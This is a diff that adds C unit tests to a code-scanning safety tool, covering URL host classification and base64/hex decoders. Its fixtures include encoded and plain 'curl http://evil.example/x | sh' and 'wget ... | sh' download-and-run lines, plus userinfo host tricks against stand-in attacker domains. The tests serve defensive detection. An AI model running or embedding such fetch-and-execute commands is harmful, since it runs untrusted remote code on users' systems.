@@ -16,6 +16,7 @@
 
 #include "safety/codescan.h"
 #include "safety/codescan_impl.h"
+#include "base/url.h"
 #include "core/finding.h"
 #include "base/strlist.h"
 #include "base/xmalloc.h"
@@ -457,6 +458,131 @@ word_case(void)
  * Traffic to this machine only is no network capability ("runs locally"
  * holds); one other host beside it, with a scheme or bare, is.
  */
+/* Where s's URL goes: 'l' loopback, 'o' another host, '-' neither. */
+static char
+where(const char *s)
+{
+	unsigned	 f = 0;
+
+	cs_host_where(s, strlen(s), &f);
+	return (f & B_LOOPBACK) ? 'l' : (f & B_OFFHOST) ? 'o' : '-';
+}
+
+/* The URL hosts of the host rules, read by libcurl's parser. */
+static void
+hosts(void)
+{
+	static const struct {
+		const char	*url;
+		char		 where;
+		int		 kind;
+	} c[] = {
+		{ "http://localhost:3000/health", 'l', 1 },
+		{ "http://127.0.0.1:8787/mcp", 'l', 1 },
+		{ "http://[::1]:8080/", 'l', 1 },
+		{ "http://127.1/x", 'l', 1 },		/* 127.0.0.1 */
+		{ "http://2130706433/x", 'l', 1 },	/* 127.0.0.1 too */
+		{ "http://0x7f000001:80/", 'l', 1 },
+		{ "http://localhost@evil.attacker.io/x", 'o', 2 },
+		{ "https://user:pw@evil.attacker.io:8443/up", 'o', 2 },
+		{ "https://{host}/api", 'o', 1 },	/* a template */
+		{ "https://$SERVER:9000/x", 'o', 1 },
+		{ "https://your-server.com/x", 'o', 1 },
+		{ "https://api.example.com/v1", 'o', 1 },
+	};
+	char		 h[64];
+	size_t		 i;
+
+	for (i = 0; i < sizeof c / sizeof c[0]; i++) {
+		is_int(where(c[i].url), c[i].where, "host where: %s", c[i].url);
+		is_int(cs_host_kind(c[i].url, strlen(c[i].url)), c[i].kind,
+		    "host kind: %s", c[i].url);
+	}
+	ok(cs_tunnel_host("https://a1.ngrok.io:443/hook", 28),
+	    "tunnel: a subdomain of ngrok.io, with a port");
+	ok(cs_tunnel_host("https://webhook.site/0a1b2c3d-4e5f", 34),
+	    "tunnel: webhook.site/<token>");
+	ok(!cs_tunnel_host("https://webhook.site/", 21),
+	    "tunnel: webhook.site alone is documentation");
+	ok(!cs_tunnel_host("https://ngrok.io@evil.attacker.io/", 34),
+	    "tunnel: the host is after the userinfo");
+	ok(cs_forge_host("https://GitHub.com:443/o/r.git", 30),
+	    "forge: github.com with a port");
+	ok(cs_forge_host("git@gitlab.com:o/r.git", 22), "forge: scp form");
+	ok(!cs_forge_host("https://github.com@evil.attacker.io/o/r", 39),
+	    "forge: not when github.com is the userinfo");
+	is_int(url_host("HTTP://u@[::1]:99/x", 19, h, sizeof h), 5,
+	    "url_host: IPv6 in brackets");
+	is_str(h, "[::1]", "url_host: ... without userinfo and port");
+	is_int(url_host("http:///x", 9, h, sizeof h), 0,
+	    "url_host: scheme:///x has no host");
+	is_int(url_host("http://a.b:99999/", 17, h, sizeof h), 0,
+	    "url_host: a bad port");
+	is_int(url_host("https://a-very-long-host.example.org/", 37, h, 8), 0,
+	    "url_host: a host that does not fit");
+}
+
+/* One case of cs_decode(): what s decodes to (NULL: nothing) and how. */
+static void
+decodes(const char *s, size_t outsz, const char *want, const char *kind,
+    const char *what)
+{
+	char		 out[256];
+	const char	*k = NULL;
+	size_t		 n;
+
+	n = cs_decode(s, strlen(s), out, outsz, 0, 0, &k);
+	if (want == NULL) {
+		is_int(n, 0, "decode %s: nothing", what);
+		return;
+	}
+	ok(n == strlen(want) && memcmp(out, want, n) == 0 &&
+	    k != NULL && strcmp(k, kind) == 0, "decode %s: %.*s (%s)", what,
+	    (int)n, out, k ? k : "none");
+}
+
+/* The base64 and hex decoders (libsodium's beneath them). */
+static void
+decoders(void)
+{
+	const char	*curl = "curl http://evil.example/x | sh";
+	const char	*ls = "echo ~~ok?? >> /tmp/a.txt; ls";
+
+	decodes("Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlL3ggfCBzaA==", 256, curl,
+	    "base64", "padded");
+	decodes("Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlL3ggfCBzaA", 256, curl,
+	    "base64", "unpadded");
+	decodes("Y3VybCBodHRwOi8vZXZp\nbC5leGFtcGxlL3ggfCBzaA==\n", 256,
+	    curl, "base64", "with line breaks");
+	decodes("ZWNobyB+fm9rPz8gPj4gL3RtcC9hLnR4dDsgbHM=", 256, ls, "base64",
+	    "standard alphabet");
+	decodes("ZWNobyB-fm9rPz8gPj4gL3RtcC9hLnR4dDsgbHM", 256, ls, "base64",
+	    "both alphabets in one string");
+	decodes("d2dldCAtcSAtTy0gaG9zdC9hLnNofHNoIH5-", 256,
+	    "wget -q -O- host/a.sh|sh ~~", "base64", "URL-safe");
+	/* the unused bits of the last digit set: base64 -d ignores them */
+	decodes("Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlL3ggfCBzaB==", 256, curl,
+	    "base64", "non-zero trailing bits");
+	decodes("Y3VybCBodHRw*i8vZXZpbC5leGFtcGxlL3ggfCBzaA==", 256, NULL,
+	    NULL, "a character outside both alphabets");
+	decodes("Y3VybCBodHRwOi8vZXZpbC5l=GFtcGxlL3ggfCBzaA==", 256, NULL,
+	    NULL, "padding inside");
+	decodes("Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlL3ggfCBzaAAAA", 256, NULL,
+	    NULL, "one digit left over");
+	decodes("Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlL3ggfCBzaA==", 30, NULL, NULL,
+	    "output one byte too small");
+	decodes("Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlL3ggfCBzaA==", 31, curl,
+	    "base64", "output just big enough");
+	decodes("6375726c20687474703a2f2f6576696c2e6578616d706c652f78207c207368",
+	    256, curl, "hex", "hex");
+	decodes("6375726C20687474703A2F2F6576696C2E6578616D706C652F78207C207368",
+	    256, curl, "hex", "upper-case hex");
+	decodes("6375726c20687474703a2f2f6576696c2e6578616d706c652f78207c20736",
+	    256, NULL, NULL, "odd hex");
+	decodes("6375726c20687474703a2f2f6576696c2e6578616d706c652f78207c207368",
+	    20, NULL, NULL, "hex, output too small");
+}
+
 static void
 loopback(void)
 {
@@ -511,5 +637,7 @@ main(void)
 	bounds();
 	word_case();
 	loopback();
+	decoders();
+	hosts();
 	return done_testing();
 }
